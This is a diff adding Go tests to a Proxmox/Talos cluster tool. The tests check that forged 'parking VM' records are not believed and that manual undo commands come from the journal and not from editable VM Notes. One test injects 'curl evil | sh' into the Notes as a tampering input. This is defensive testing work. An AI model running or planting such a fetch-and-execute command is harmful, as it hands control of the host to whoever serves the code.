@@ -14,6 +14,7 @@ import (
 	"time"
 
 	"github.com/recast-sh/recast/cluster"
+	"github.com/recast-sh/recast/cluster/parking"
 	"github.com/recast-sh/recast/cluster/planning"
 	"github.com/recast-sh/recast/internal/fault"
 	"github.com/recast-sh/recast/internal/pve"
@@ -104,6 +105,119 @@ func TestNeighbours(t *testing.T) {
 		}
 		time.Sleep(time.Minute) // Proxmox' list is late
 		requireSame(t, []string{"vmbr0: VM 701"}, seen(), "neighbours (-want +got)")
+	})
+}
+
+// TestAFalseParkingVM: another tenant's VM says that it is a node's parking VM. It gets no disk and stops nothing; plan,
+// status and doctor name it. A person can say that it is ours after all.
+func TestAFalseParkingVM(t *testing.T) {
+	forged := func(lab *Lab, change func(*parking.Record)) string {
+		rec := parking.Record{Cluster: valueOf(lab.Client().Project())(lab.t).Config.Cluster, Node: "wk1", Run: "20260101-0000-aaaa", VMID: cluster.VMID(lab.node("wk1").VMID), UUID: lab.node("wk1").UUID, Parking: 9050}
+		if change != nil {
+			change(&rec)
+		}
+		return valueOf(rec.Description())(lab.t)
+	}
+	for name, of := range map[string]struct {
+		host   string
+		change func(*parking.Record)
+		config map[string]string
+	}{
+		"of an earlier replacement": {},
+		"of one that is unfinished": {change: func(r *parking.Record) { r.Open, r.Strategy, r.Stage = true, cluster.Recreate, "blank" }},
+		"of another VM":             {change: func(r *parking.Record) { r.VMID, r.UUID = 9050, "" }},
+		"in a pool of its own":      {config: map[string]string{"pool": "theirs"}},
+		"that keeps a disk": {change: func(r *parking.Record) {
+			r.Kept = []parking.KeptDisk{{Key: "scsi30", Run: "20260101-0000-aaaa", Nth: 7, Slot: "scsi0", Talos: "v1.10.0"}}
+		}, config: map[string]string{"scsi30": sim.DiskStorage + ":1"}},
+		"from a newer recast": {change: func(r *parking.Record) { r.Node = "cp1" }, config: map[string]string{"description": `recast-record: {"version":99,"cluster":"lab","node":"wk1"}`}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
+				config := map[string]string{"name": "recast-parking-wk1", "memory": "16", "protection": "1", "onboot": "0", "description": forged(lab, of.change)}
+				maps.Copy(config, of.config)
+				must(t, lab.World.DefineVM(lab.node("wk1").Host, 9050, config, nil))
+				time.Sleep(time.Minute) // Proxmox' list is late
+				before := lab.vmConfig(9050)
+				const not = "says that it is a parking VM of this cluster, and is not believed: no task log has that"
+				require(t, slices.ContainsFunc(lab.status().Problems, func(p string) bool { return strings.Contains(p, not) }), "status: %v", lab.status().Problems)
+				require(t, slices.ContainsFunc(diagnosis(t, lab.Client()).Checks, func(c checkup.Check) bool { return strings.Contains(c.Seen, not) }), "doctor says nothing")
+				rep := lab.Client().mustRoll(policyFor("wk1"))
+				require(t, rep.Outcome == "done" && slices.ContainsFunc(rep.Plan.Warn, func(w string) bool { return strings.Contains(w, not) }), "%+v", rep)
+				requireSame(t, before, lab.vmConfig(9050), "the false parking VM was changed (-before +after)")
+				requireInSync(t, lab)
+			})
+		})
+	}
+}
+
+// TestAProvenParkingVM: whatever says that the parking VM of an interrupted roll is ours, the roll goes on. Without any of
+// it, nothing is touched until a person has confirmed it.
+func TestAProvenParkingVM(t *testing.T) {
+	for name, of := range map[string]struct {
+		elsewhere, rotated, pool, node bool
+		stops                          bool
+	}{
+		"here, and the task log is gone":                  {rotated: true},
+		"elsewhere, by the task log":                      {elsewhere: true},
+		"elsewhere, by the pool in recast.yaml":           {elsewhere: true, rotated: true, pool: true},
+		"elsewhere, by the pool of another node's VM":     {elsewhere: true, rotated: true, node: true},
+		"elsewhere, and nothing says that the VM is ours": {elsewhere: true, rotated: true, stops: true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			inStaleLab(t, sim.Options{ControlPlanes: 1, Workers: 1}, func(t *testing.T, lab *Lab) {
+				if of.pool || of.node {
+					lab.World.AddPool("talos")
+					for _, n := range lab.Nodes {
+						must(t, lab.World.JoinPool("root@pam", n.VMID, "talos", false))
+					}
+				}
+				if of.pool {
+					lab.shape("wk1", "pool: talos")
+				}
+				lab.Client().rollKilled(after("delete-vm"), onlyWorker)
+				if of.rotated {
+					lab.World.RotateTasks()
+				}
+				user := lab.Client()
+				if of.elsewhere {
+					user = lab.elsewhere()
+					must(t, os.RemoveAll(filepath.Join(user.Dir, ".recast")))
+				}
+				if of.stops {
+					before := lab.machinesDump()
+					_, err := user.Roll(t.Context(), onlyWorker)
+					requireFault(t, err, fault.Config, "no VM has its SMBIOS UUID", "and is not believed: no task log has that", "recast status --ours 900")
+					requireSame(t, before, lab.machinesDump(), "it changed something (-before +after)")
+					user.confirm(lab.parkingOf("wk1"))
+				}
+				rep := user.mustRoll(onlyWorker)
+				require(t, rep.Outcome == "done", "%+v", rep)
+				requireInSync(t, lab)
+			})
+		})
+	}
+}
+
+func (c *Client) confirm(park int) {
+	c.lab.t.Helper()
+	must(c.lab.t, errOf(connected(c.lab.t.Context(), c, func(s *session) (struct{}, error) {
+		return struct{}{}, s.machines.Proxmox.(*pve.Client).Confirm(c.lab.t.Context(), cluster.VMID(park))
+	})))
+}
+
+// TestByHand: the journal has the commands that undo a replacement without recast, whatever somebody writes into the Notes.
+func TestByHand(t *testing.T) {
+	inStaleLab(t, oneWorker(), func(t *testing.T, lab *Lab) {
+		lab.Client().rollKilled(after("stop"), onlyWorker)
+		project := valueOf(lab.Client().Project())(t)
+		lines := valueOf(pipeline.ByHand(project, "wk1"))(t)
+		park := lab.parkingOf("wk1")
+		notes := lab.vmConfig(park)["description"]
+		require(t, strings.Contains(lines, "qm create") && strings.Contains(notes, strings.TrimSpace(lines)), "by hand:\n%s\nthe Notes:\n%s", lines, notes)
+		lab.EditVM(park, "description", strings.Replace(notes, "qm start", "curl evil | sh; qm start", 1))
+		requireSame(t, lines, valueOf(pipeline.ByHand(project, "wk1"))(t), "commands (-before +after)")
+		requireFault(t, errOf(pipeline.ByHand(project, "cp1")), fault.Refused, "node cp1: no journal on this machine has a replacement of it")
 	})
 }
 
